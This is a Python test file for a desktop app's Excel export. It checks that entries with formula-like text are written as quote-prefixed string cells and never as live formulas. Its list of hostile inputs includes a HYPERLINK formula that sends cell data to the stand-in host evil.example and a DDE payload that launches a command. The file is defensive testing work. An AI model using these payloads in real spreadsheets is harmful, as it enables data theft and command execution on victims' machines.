"""Entries holding formula-like text export as inert text (issue 6: hostile input).

A title such as ``=HYPERLINK(...)`` or a DDE payload must reach Excel as a
string cell with the quote prefix, never as a formula, on both backends.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl

from desktop_app.domain.entry import EntryData
from desktop_app.domain.kinds import Kind
from desktop_app.exports.excel_register import export_register
from desktop_app.services import entries

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Klicka")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "-2+3",
    "@SUM(A1:A9)",
    "=1+1",
]


def test_formula_like_text_stays_text(register, tmp_path: Path) -> None:
    for n, text in enumerate(HOSTILE):
        entries.create_entry(
            EntryData(
                kind=Kind.MEMBERSHIP,
                title=f"{text} ",  # the service strips; the formula text stays
                case_number=f"KS 2026/{n}",
                notes=text,
                contact_person=text,
            )
        )
    target = tmp_path / "register.xlsx"
    export_register(target)
    with zipfile.ZipFile(target) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), name
    book = openpyxl.load_workbook(target)
    seen = set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value in HOSTILE:
                    assert cell.data_type == "s", (cell.coordinate, cell.value)
                    assert cell.quotePrefix, (cell.coordinate, cell.value)
                    seen.add(cell.value)
    assert seen == set(HOSTILE)
